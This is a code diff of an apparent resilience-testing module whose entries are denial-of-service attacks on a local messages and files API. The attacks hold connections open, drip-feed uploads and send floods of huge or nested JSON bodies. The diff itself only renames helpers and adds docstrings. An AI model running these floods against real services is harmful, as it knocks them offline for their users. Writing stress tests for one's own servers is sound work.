@@ -22,7 +22,8 @@ _PIECE = 1 << 18
 _OWN_CHANNEL = (("grpc.use_local_subchannel_pool", 1), ("grpc.max_send_message_length", -1))
 
 
-def _head(target: Target, line: str, *more: str) -> bytes:
+def head(target: Target, line: str, *more: str) -> bytes:
+    """Return the head of a request with the attacker's key."""
     lines = [f"{line} HTTP/1.1", "host: localhost", f"x-api-key: {target.key}", "anthropic-version: 2023-06-01", *more]
     return "\r\n".join(lines).encode() + b"\r\n\r\n"
 
@@ -39,7 +40,7 @@ async def downloads(target: Target) -> None:
 
     async def once(_: int) -> None:
         async with target.connected(is_deaf=True) as (_, writer):
-            writer.write(_head(target, line, "anthropic-beta: files-api-2025-04-14"))
+            writer.write(head(target, line, "anthropic-beta: files-api-2025-04-14"))
             await asyncio.sleep(3600)
 
     await by_many(target, 560, once)
@@ -51,7 +52,7 @@ async def unread(target: Target) -> None:
     async def once(number: int) -> None:
         said = body(f"unread {number} answer in 8000 tokens", 8000, ',"stream":true')
         async with target.connected(is_deaf=True) as (_, writer):
-            writer.write(_head(target, "POST /v1/messages", f"content-length: {len(said)}") + said)
+            writer.write(head(target, "POST /v1/messages", f"content-length: {len(said)}") + said)
             await asyncio.sleep(3600)
 
     await by_many(target, 400, once)
@@ -63,7 +64,7 @@ async def uploads(target: Target) -> None:
     async def once(number: int) -> None:
         path = "/v1/files" if number % 2 else "/v1/messages"
         async with target.connected() as (reader, writer):
-            writer.write(_head(target, f"POST {path}", "content-length: 20000000"))
+            writer.write(head(target, f"POST {path}", "content-length: 20000000"))
             while not reader.at_eof():
                 writer.write(b" ")
                 await asyncio.sleep(1.0)
@@ -78,7 +79,7 @@ async def waiting(target: Target) -> None:
     async def once(_: int) -> None:
         said = body(f"wait {next(numbers)} answer in 200 tokens", 300)
         async with target.connected() as (reader, writer):
-            writer.write(_head(target, "POST /v1/messages", f"content-length: {len(said)}", "connection: close") + said)
+            writer.write(head(target, "POST /v1/messages", f"content-length: {len(said)}", "connection: close") + said)
             target.tally["calls"] += 1
             came = await reader.read(4096)
             target.tally["answers " + came[9:12].decode()] += 1
@@ -87,16 +88,16 @@ async def waiting(target: Target) -> None:
     await by_many(target, 1500, once)
 
 
-async def _bodies(target: Target, count: int, made: bytes) -> None:
+async def bodies(target: Target, count: int, made: bytes) -> None:
     """Send so many at once of a body, that begins "{": members are put there that tell one from the other."""
     numbers = itertools.count()
     rest = memoryview(made)[1:]  # twenty-four copies would take as long as the attack
 
     async def once(number: int) -> None:
         beginning = b'{"metadata":{"user_id":"%d"},"top_k":%d,' % (number, next(numbers))
-        head = _head(target, "POST /v1/messages", f"content-length: {len(beginning) + len(rest)}", "connection: close")
+        lines = head(target, "POST /v1/messages", f"content-length: {len(beginning) + len(rest)}", "connection: close")
         async with target.connected() as (reader, writer), asyncio.timeout(60):
-            writer.write(head + beginning)
+            writer.write(lines + beginning)
             for at in range(0, len(rest), _PIECE):
                 writer.write(rest[at : at + _PIECE])
                 await writer.drain()
@@ -111,24 +112,25 @@ def _text(size: int) -> bytes:
     return body(("The quick brown fox jumps over the lazy dog. " * (size // 45 + 1))[:size])
 
 
-def _said(**members: object) -> bytes:
+def said(**members: object) -> bytes:
+    """Return a small call with some other members."""
     messages = [{"role": "user", "content": "x"}]
     return json.dumps({"model": MODEL, "max_tokens": 5, "messages": messages, **members}, separators=(",", ":")).encode()
 
 
 def _of(count: int, make: Callable[[], bytes]) -> Attack:
     async def flood(target: Target) -> None:
-        await _bodies(target, count, make())
+        await bodies(target, count, make())
 
     return flood
 
 
 def _short_messages() -> bytes:
-    return _said(messages=[{"role": "user", "content": "x"}] * 1_000_000)
+    return said(messages=[{"role": "user", "content": "x"}] * 1_000_000)
 
 
 def _nested() -> bytes:
-    return _said(
+    return said(
         messages=[{"role": "user", "content": [{"type": "tool_use", "id": "i", "name": "n", "input": [1] * 15_000_000}]}]
     )
 
@@ -177,7 +179,7 @@ async def odd_answers(target: Target) -> None:
         is_stream = ',"stream":true' if number % 2 else ""
         said = body(f"odd {next(numbers)}", 20, is_stream)
         async with target.connected() as (reader, writer), asyncio.timeout(20):
-            writer.write(_head(target, "POST /v1/messages", f"content-length: {len(said)}", "connection: close") + said)
+            writer.write(head(target, "POST /v1/messages", f"content-length: {len(said)}", "connection: close") + said)
             came = await reader.read(4096)
             with contextlib.suppress(TimeoutError):
                 async with asyncio.timeout(5):
@@ -203,8 +205,8 @@ ATTACKS: Mapping[str, Attack] = {
     "uploads": uploads,
     "waiting": waiting,
     "text": _of(24, lambda: _text(31_000_000)),
-    "keys": _of(6, lambda: _said(x={f"k{number}": number for number in range(1_000_000)})),
-    "integers": _of(6, lambda: _said(x=[1] * 15_000_000)),
+    "keys": _of(6, lambda: said(x={f"k{number}": number for number in range(1_000_000)})),
+    "integers": _of(6, lambda: said(x=[1] * 15_000_000)),
     "nested": _of(6, _nested),
     "short-messages": _of(6, _short_messages),
     "many-bodies": _of(300, lambda: _text(4_000_000)),
